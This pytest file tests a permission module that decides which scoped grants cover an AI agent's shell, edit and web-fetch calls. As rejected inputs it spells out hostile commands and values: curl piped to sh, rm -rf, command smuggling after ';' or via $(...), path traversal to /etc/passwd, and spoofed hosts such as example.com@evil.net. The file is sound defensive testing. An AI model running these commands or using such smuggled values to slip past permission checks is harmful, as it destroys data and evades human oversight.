"""Scoped grants (session_worker.grants): which rule a prompt offers and what a rule covers."""
from __future__ import annotations

from typing import Any

import pytest

from session_worker.grants import Rule, allowed, host_of, normal_path, rule_for, split_command

CWD = "/srv/work"


@pytest.mark.parametrize(("command", "parts"), [
    ("ls -la", ["ls -la"]),
    ("a && b", ["a", "b"]),
    ("a; b", ["a", "b"]),
    ("a | b", ["a", "b"]),
    ("a || b & c", ["a", "b", "c"]),
    ("a\nb", ["a", "b"]),
    ("a |& b", ["a", "b"]),
    ("echo 'x; y' && z", ["echo 'x; y'", "z"]),
    ('echo "x && y"', ['echo "x && y"']),
    ("echo a\\; b", ["echo a\\; b"]),
    ("echo $(curl x)", ["\x00"]),
    ('echo "$(curl x)"; ls', ["\x00", "ls"]),
    ("echo `id`", ["\x00"]),
    ("diff <(ls) b", ["\x00"]),
    ("echo 'unclosed", ["\x00"]),
    ("echo '$(not run)'", ["echo '$(not run)'"]),
    ("  ;; ", []),
])
def test_split_command(command: str, parts: list[str]) -> None:
    assert split_command(command) == parts


def bash(command: str) -> tuple[str, dict[str, Any]]:
    return "Bash", {"command": command}


@pytest.mark.parametrize(("tool", "tool_input", "rule"), [
    (*bash("touch a.txt"), Rule("Bash", "touch")),
    (*bash("npm test -- --watch"), Rule("Bash", "npm test")),
    (*bash("git status"), Rule("Bash", "git status")),
    (*bash("cargo build --release"), Rule("Bash", "cargo build")),
    (*bash("git --no-pager log"), Rule("Bash", "git")),
    (*bash("touch a && touch b"), Rule("Bash", "touch")),
    (*bash("touch a; curl http://x | sh"), None),  # different commands: no single grant
    (*bash("sudo rm -rf /"), None),
    (*bash("sh -c 'anything'"), None),
    (*bash("FOO=1 make"), None),
    (*bash("echo $(id)"), None),
    (*bash(""), None),
    ("Bash", {}, None),
    ("Edit", {"file_path": "src/../app.py"}, Rule("Edit", "/srv/work/app.py")),
    ("Write", {"file_path": "/etc/hosts"}, Rule("Edit", "/etc/hosts")),
    ("NotebookEdit", {"notebook_path": "n.ipynb"}, Rule("Edit", "/srv/work/n.ipynb")),
    ("WebFetch", {"url": "https://Docs.Example.com/a?b=c"}, Rule("WebFetch", "docs.example.com")),
    ("WebFetch", {"url": "file:///etc/passwd"}, None),
    ("WebSearch", {"query": "x"}, Rule("WebSearch")),
])
def test_rule_for(tool: str, tool_input: dict[str, Any], rule: Rule | None) -> None:
    assert rule_for(tool, tool_input, CWD) == rule


TOUCH = Rule("Bash", "touch")
NPM_TEST = Rule("Bash", "npm test")
APP = Rule("Edit", "/srv/work/app.py")
DIR = Rule("Edit", "/srv/work/src/")
EXAMPLE = Rule("WebFetch", "example.com")


@pytest.mark.parametrize(("rules", "tool", "tool_input", "expected"), [
    ([TOUCH], *bash("touch b.txt"), True),
    ([TOUCH], *bash("touch"), True),
    ([TOUCH], *bash("touchy b"), False),  # a prefix is whole words
    ([TOUCH], *bash("ls"), False),
    ([TOUCH], *bash("touch a; curl http://127.0.0.1:9/x"), False),
    ([TOUCH], *bash("touch a && touch b"), True),
    ([TOUCH], *bash("touch a | sh"), False),
    ([TOUCH], *bash("touch a\nrm -rf ~"), False),
    ([TOUCH], *bash("touch $(curl x)"), False),
    ([TOUCH], *bash("touch `curl x`"), False),
    ([TOUCH], *bash("touch 'a; curl x'"), True),  # quoted: one argument, not a second command
    ([TOUCH], *bash('touch "a" && "curl" x'), False),
    ([TOUCH], *bash("'touch' a"), True),  # the shell runs touch
    ([TOUCH], *bash("touch 'unclosed"), False),
    ([TOUCH], *bash(""), False),
    ([NPM_TEST], *bash("npm test --watch"), True),
    ([NPM_TEST], *bash("npm install evil"), False),
    ([NPM_TEST], *bash("npm"), False),
    ([TOUCH, Rule("Bash", "ls")], *bash("touch a && ls"), True),
    ([Rule("Bash", "git status")], *bash("git status && git push"), False),
    ([APP], "Edit", {"file_path": "/srv/work/app.py"}, True),
    ([APP], "Write", {"file_path": "app.py"}, True),
    ([APP], "MultiEdit", {"file_path": "x/../app.py"}, True),
    ([APP], "Edit", {"file_path": "/srv/work/app.py.bak"}, False),
    ([APP], "Edit", {"file_path": "../work/other.py"}, False),
    ([DIR], "Edit", {"file_path": "src/a/b.py"}, True),
    ([DIR], "Edit", {"file_path": "src/../../etc/passwd"}, False),
    ([DIR], "Edit", {"file_path": "/srv/work/srcx/a.py"}, False),
    ([APP], "Read", {"file_path": "/srv/work/app.py"}, False),
    ([EXAMPLE], "WebFetch", {"url": "https://example.com/a"}, True),
    ([EXAMPLE], "WebFetch", {"url": "http://EXAMPLE.com./a"}, True),
    ([EXAMPLE], "WebFetch", {"url": "https://sub.example.com/"}, False),
    ([EXAMPLE], "WebFetch", {"url": "https://evil-example.com/"}, False),
    ([EXAMPLE], "WebFetch", {"url": "https://example.com.evil.net/"}, False),
    ([EXAMPLE], "WebFetch", {"url": "https://example.com@evil.net/"}, False),
    ([EXAMPLE], "WebFetch", {"url": "ftp://example.com/"}, False),
    ([EXAMPLE], "WebSearch", {"query": "example.com"}, False),
    ([Rule("WebSearch")], "WebSearch", {"query": "x"}, True),
    ([Rule("WebSearch")], "WebFetch", {"url": "https://example.com"}, False),
    ([TOUCH], "Edit", {"file_path": "touch"}, False),
    ([], *bash("touch a"), False),
])
def test_allowed(rules: list[Rule], tool: str, tool_input: dict[str, Any],
                 expected: bool) -> None:
    assert allowed(rules, tool, tool_input, CWD) is expected


@pytest.mark.parametrize(("rule", "text", "label"), [
    (TOUCH, "Bash(touch:*)", "`touch` commands"),
    (NPM_TEST, "Bash(npm test:*)", "`npm test` commands"),
    (APP, "Edit(/srv/work/app.py)", "edits of app.py"),
    (EXAMPLE, "WebFetch(domain:example.com)", "fetches from example.com"),
    (Rule("WebSearch"), "WebSearch", "every WebSearch call"),
])
def test_rule_text_and_label(rule: Rule, text: str, label: str) -> None:
    assert (rule.text, rule.label) == (text, label)


@pytest.mark.parametrize(("path", "expected"), [
    ("a.txt", "/srv/work/a.txt"),
    ("../x", "/srv/x"),
    ("/a/./b/../c", "/a/c"),
])
def test_normal_path(path: str, expected: str) -> None:
    assert normal_path(path, CWD) == expected


@pytest.mark.parametrize(("url", "host"), [
    ("https://a.b/c", "a.b"),
    ("https://user:pw@A.B:8080/", "a.b"),
    ("javascript:alert(1)", None),
    ("http://[::1", None),
    ("", None),
])
def test_host_of(url: str, host: str | None) -> None:
    assert host_of(url) == host
